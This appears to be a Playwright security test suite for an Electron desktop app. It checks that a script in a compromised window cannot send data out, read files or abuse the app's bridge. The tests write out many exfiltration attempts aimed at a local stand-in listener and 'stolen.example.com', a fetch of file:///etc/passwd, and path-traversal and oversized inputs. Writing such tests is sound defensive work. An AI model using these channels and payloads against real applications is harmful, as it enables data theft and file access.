import { createSocket } from 'node:dgram';
import { readdirSync } from 'node:fs';
import { createServer } from 'node:net';
import { expect } from '@playwright/test';
import { refusal } from '../support/door';
import { test } from '../support/unbind-test';

/**
 * An address of this machine that is not the one which the double lets Chromium find. Nothing could be nearer: what
 * does not get there gets nowhere.
 */
const NEAR = '127.0.0.2';

/** Hears whatever comes there. */
async function listener() {
  const heard: string[] = [];
  const tcp = createServer((socket) => {
    heard.push('tcp');
    socket.destroy();
  });
  await new Promise<void>((done) => tcp.listen(0, NEAR, done));
  const { port } = tcp.address() as { port: number };
  const udp = createSocket('udp4', () => heard.push('udp'));
  await new Promise<void>((done) => udp.bind(port, NEAR, done));
  return { heard, port, close: () => [tcp.close(), udp.close()] };
}

/** As the page would if it could. */
async function knock(port: number): Promise<void> {
  await fetch(`http://${NEAR}:${port}/`).catch(() => {});
  const udp = createSocket('udp4');
  await new Promise((done) => udp.send('a', port, NEAR, done));
  udp.close();
}

test.skip(process.platform !== 'linux', `only Linux has ${NEAR} without being told`);
test.beforeEach(async ({ desktop }) => desktop.start());

test('a script that has got hold of the window reaches no other place by any way out', async ({
  desktop: { page },
  problems,
}) => {
  const { heard, port, close } = await listener();
  const seen = await page.evaluate(async (to) => {
    const web = `http://${to}/stolen`;
    const outcome = async (run: () => unknown) => {
      try {
        return (await Promise.race([
          run(),
          new Promise((done) => setTimeout(done, 2000, 'nothing')),
        ])) as string;
      } catch (error) {
        return error instanceof Error ? 'refused' : String(error);
      }
    };
    const loaded = (element: HTMLElement) =>
      new Promise<string>((done) => {
        element.addEventListener('load', () => done('loaded'));
        element.addEventListener('error', () => done('refused'));
        document.body.append(element);
      });
    const element = (name: string, attributes: Record<string, string>) => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      return made;
    };
    const link = (rel: string) => loaded(element('link', { rel, href: web, as: 'fetch' }));
    const opened = (target: EventTarget) =>
      new Promise<string>((done) => {
        target.addEventListener('open', () => done('loaded'));
        target.addEventListener('error', () => done('refused'));
      });
    /** Another world of the same page, as fresh as Chromium made it. */
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const fresh = frame.contentWindow as (Window & typeof globalThis) | null;
    const connect = async (Kind: typeof RTCPeerConnection, transport: string) => {
      const urls = [`stun:${to}`, `turn:${to}${transport}`];
      const peer = new Kind({ iceServers: [{ urls, username: 'a', credential: 'a' }] });
      peer.createDataChannel('a');
      await peer.setLocalDescription();
      await new Promise((done) => setTimeout(done, 1500));
      return 'tried';
    };
    return {
      fetch: await outcome(() => fetch(web).then(() => 'loaded')),
      unseen: await outcome(() => fetch(web, { mode: 'no-cors', keepalive: true }).then(() => 'loaded')),
      fromFrame: await outcome(() => fresh?.fetch(web).then(() => 'loaded')),
      file: await outcome(() => fetch('file:///etc/passwd').then(() => 'loaded')),
      otherHost: await outcome(() => fetch('app://other/index.html').then(() => 'loaded')),
      socket: await outcome(() => opened(new WebSocket(`ws://${to}/`))),
      events: await outcome(() => opened(new EventSource(web))),
      image: await outcome(() => loaded(element('img', { src: web }))),
      frame: await outcome(() => loaded(element('iframe', { src: web })).then(() => 'empty')),
      object: await outcome(() => loaded(element('object', { data: web }))),
      media: await outcome(() => loaded(element('video', { src: web }))),
      script: await outcome(() => loaded(element('script', { src: web }))),
      prefetch: await outcome(() => link('prefetch')),
      preload: await outcome(() => link('preload')),
      module: await outcome(() => link('modulepreload')),
      icon: await outcome(() => link('icon')),
      names: await outcome(() => {
        document.head.append(element('link', { rel: 'dns-prefetch', href: 'https://stolen.example.com' }));
        document.head.append(element('link', { rel: 'preconnect', href: web }));
        return 'tried';
      }),
      rules: await outcome(() => {
        const rules = element('script', { type: 'speculationrules' });
        rules.append(JSON.stringify({ prefetch: [{ source: 'list', urls: [web] }] }));
        document.head.append(rules);
        return 'tried';
      }),
      ping: await outcome(() => {
        const anchor = element('a', { href: '#here', ping: web });
        document.body.append(anchor);
        anchor.click();
        return 'tried';
      }),
      beacon: await outcome(() => (navigator.sendBeacon(web, 'stolen') ? 'queued' : 'refused')),
      form: await outcome(() => {
        const form = element('form', { action: web, method: 'post', target: '_blank' }) as HTMLFormElement;
        document.body.append(form);
        form.submit();
        return 'tried';
      }),
      refresh: await outcome(() => {
        document.head.append(element('meta', { 'http-equiv': 'refresh', content: `0;url=${web}` }));
        return 'tried';
      }),
      service: await outcome(() => navigator.serviceWorker.register('/assets/none.js').then(() => 'loaded')),
      worker: await outcome(() => {
        const address = URL.createObjectURL(new Blob([`fetch('${web}')`]));
        return new Promise((done) => {
          new Worker(address).onerror = () => done('refused');
        });
      }),
      rtc: await outcome(() => connect(RTCPeerConnection, '')),
      rtcTcp: await outcome(() => connect(fresh?.RTCPeerConnection ?? RTCPeerConnection, '?transport=tcp')),
      transport: await outcome(() => new WebTransport(`https://${to}/`).ready.then(() => 'loaded')),
      popup: await outcome(() => (window.open(web) === null ? 'refused' : 'opened')),
      doorInFrame: fresh !== null && 'desktop' in fresh,
    };
  }, `${NEAR}:${port}`);
  expect(seen).toMatchObject({ doorInFrame: false });
  const got = Object.entries(seen).filter(([, what]) => what === 'loaded');
  expect(got).toEqual([]);
  // What is sent away without being waited for.
  await page.waitForTimeout(1500);
  expect(heard).toEqual([]);
  await knock(port);
  await expect.poll(() => heard.toSorted(), 'whoever does get there is heard').toEqual(['tcp', 'udp']);
  close();
  await problems.provoked();
});

test('a script that has got hold of the window cannot lock its owner out: by which key the data opens, and whether it goes out of use, is asked of the person', async ({
  desktop: { electron, page, userData },
}) => {
  await electron.evaluate(({ dialog }) => {
    const asked: string[] = [];
    Object.assign(globalThis, { asked });
    dialog.showMessageBox = ((_window: unknown, options: { message: string }) => {
      asked.push(options.message);
      return Promise.resolve({ response: 0, checkboxChecked: false });
    }) as typeof dialog.showMessageBox;
  });
  const said = await page.evaluate(async () => {
    const text = `age-encryption.org/v1\n${'-> scrypt AAAAAAAAAAAAAAAAAAAAAA 18\n'.repeat(3)}`;
    const key = new TextEncoder().encode(text);
    const { desktop } = window;
    return desktop === undefined
      ? []
      : [
          await desktop.moveStorage({ key, box: key }),
          await desktop.moveStorage({ key: null, box: key }),
          await desktop.changeKey(key),
          await desktop.setStorageAside(),
        ];
  });
  const declined = { ok: false, failure: { code: 'not-writable' } };
  const unwanted = { ok: false, failure: { code: 'not-wanted' } };
  expect(said).toEqual([declined, declined, declined, unwanted]);
  const asked = await electron.evaluate(() => (globalThis as unknown as { asked: string[] }).asked);
  expect(asked).toEqual([
    'Encrypt what is stored?',
    'Turn off encryption?',
    'Replace the key file that opens the data?',
    'Set aside the files that hold the data?',
  ]);
  expect(readdirSync(userData).filter((name) => /^(key|move)-|^storage\.json/.test(name))).toEqual([]);
});

test('what does not fit through the door has no effect; an address of the catalogue opens when the person says so', async ({
  desktop: { electron, page },
  problems,
}) => {
  const SECRET = 'planted-secret-7f3a';
  const calls: readonly (readonly [string, ...unknown[]])[] = [
    ['saveDocument', { suggestedName: `../${SECRET}`, content: SECRET }],
    ['saveDocument', { suggestedName: 'a.json', content: SECRET, path: `/tmp/${SECRET}` }],
    ['saveDocument', { suggestedName: SECRET.repeat(20), content: SECRET }],
    ['saveDocument', SECRET],
    ['setTheme', SECRET],
    ['setTheme', { toString: SECRET }],
    ['setReminders', { lang: SECRET }],
    ['setReminders', { reminders: Array.from({ length: 20_000 }, () => SECRET) }],
    ['setReminders', null],
    ['setBackground', { closeToTray: true, startAtLogin: SECRET }],
    ['openAddress', `https://example.com/?q=${SECRET}`],
    ['openAddress', `file:///${SECRET}`],
    ['openAddress', [SECRET]],
    ['openAddress', SECRET.repeat(100_000)],
  ];
  for (const [method, ...given] of calls) {
    const said = await refusal(page, method, ...given);
    expect(said).toContain(`${method}: refused, `);
    expect(said).not.toContain(SECRET);
    expect(said.length).toBeLessThan(300);
  }
  expect(await electron.evaluate(({ shell }) => (shell as unknown as { opened: string[] }).opened)).toEqual(
    [],
  );
  // There is nothing but the door: no way to name another channel.
  expect(
    await page.evaluate(() => Object.values(window.desktop ?? {}).every((one) => typeof one === 'function')),
  ).toBe(true);
  // It is still there, and answers.
  expect(await refusal(page, 'trustClock')).toContain('answered');
  await problems.provoked(0);

  await electron.evaluate(({ dialog }) => {
    const asked: unknown[] = [];
    Object.assign(globalThis, { asked });
    dialog.showMessageBox = ((_window: unknown, options: { detail: string }) => {
      asked.push(options.detail);
      return Promise.resolve({ response: asked.length === 1 ? 0 : 1, checkboxChecked: false });
    }) as typeof dialog.showMessageBox;
  });
  const told = () =>
    electron.evaluate(({ shell }) => ({
      asked: (globalThis as unknown as { asked: string[] }).asked,
      opened: (shell as unknown as { opened: string[] }).opened,
    }));
  await page.goto(`${page.url().split('#')[0]}#/catalogue/wechat`);
  const address = page.getByRole('button', { name: /^https:/ }).first();
  const text = (await address.textContent()) ?? '';
  await address.click();
  await expect.poll(told).toEqual({ asked: [text], opened: [] });
  await address.click();
  await expect.poll(told).toEqual({ asked: [text, text], opened: [text] });
  expect(page.url()).toContain('#/catalogue/wechat');
});
